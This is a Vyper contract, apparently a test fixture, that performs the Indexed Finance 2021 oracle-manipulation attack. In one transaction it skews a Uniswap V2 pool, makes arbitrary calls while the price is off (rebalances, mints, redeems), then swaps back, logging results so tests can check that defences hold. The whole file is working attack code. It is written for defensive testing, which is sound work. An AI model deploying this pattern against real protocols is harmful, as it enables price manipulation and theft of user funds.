# pragma version ~=0.4.3
"""
@title FlashAttacker
@license MIT
@notice Test-only attacker for the Indexed Finance 2021 pattern: in ONE transaction it swaps a
        Uniswap V2 pool hard, makes calls while the pool is off its fair price (start a rebalance,
        perform an upkeep, mint, redeem, read a valuation), then swaps everything it got back.
@dev Only its deployer may use it. Each call may be allowed to fail: the attack then goes on and
     the outcome is logged, so a test can show that a manipulated pool made a trade revert while
     the attacker still paid the pool fees. `execute` makes calls without swapping (approvals,
     withdrawals).
"""

from ethereum.ercs import IERC20


interface IRouter:
    def swapExactTokensForTokens(
        amountIn: uint256, amountOutMin: uint256, path: DynArray[address, 3], to: address, deadline: uint256
    ) -> DynArray[uint256, 3]: nonpayable


struct Call:
    target: address
    data: Bytes[1024]
    allow_failure: bool


MAX_CALLS: constant(uint256) = 8

owner: public(address)


event CallMade:
    target: indexed(address)
    ok: bool

event Swapped:
    token_in: indexed(address)
    token_out: indexed(address)
    amount_in: uint256
    amount_out: uint256


@deploy
def __init__():
    """
    @notice An attacker owned by its deployer.
    """
    self.owner = msg.sender


@external
def attack(router: IRouter, path: DynArray[address, 3], amount_in: uint256, calls: DynArray[Call, MAX_CALLS]):
    """
    @notice Swaps `amount_in` of `path[0]` along `path`, makes `calls`, then swaps all of the last
            token it received back along the reversed path; one transaction.
    @param router A UniswapV2Router02.
    @param path The swap route, two or three tokens.
    @param amount_in How much of `path[0]` to push into the pool.
    @param calls The calls made while the pool is manipulated.
    """
    assert msg.sender == self.owner, "attacker: not owner"
    last: address = path[len(path) - 1]
    before: uint256 = staticcall IERC20(last).balanceOf(self)
    self._swap(router, path, amount_in)
    self._make(calls)
    got: uint256 = staticcall IERC20(last).balanceOf(self) - before
    back: DynArray[address, 3] = []
    for i: uint256 in range(len(path), bound=3):
        back.append(path[len(path) - 1 - i])
    self._swap(router, back, got)


@external
def execute(calls: DynArray[Call, MAX_CALLS]):
    """
    @notice Makes `calls` from this contract, without swapping.
    @param calls The calls.
    """
    assert msg.sender == self.owner, "attacker: not owner"
    self._make(calls)


@internal
def _swap(router: IRouter, path: DynArray[address, 3], amount_in: uint256):
    assert extcall IERC20(path[0]).approve(router.address, amount_in, default_return_value=True)
    amounts: DynArray[uint256, 3] = extcall router.swapExactTokensForTokens(
        amount_in, 0, path, self, block.timestamp
    )
    log Swapped(
        token_in=path[0], token_out=path[len(path) - 1], amount_in=amount_in, amount_out=amounts[len(amounts) - 1]
    )


@internal
def _make(calls: DynArray[Call, MAX_CALLS]):
    for c: Call in calls:
        ok: bool = raw_call(c.target, c.data, revert_on_failure=False)
        assert ok or c.allow_failure, "attacker: call failed"
        log CallMade(target=c.target, ok=ok)
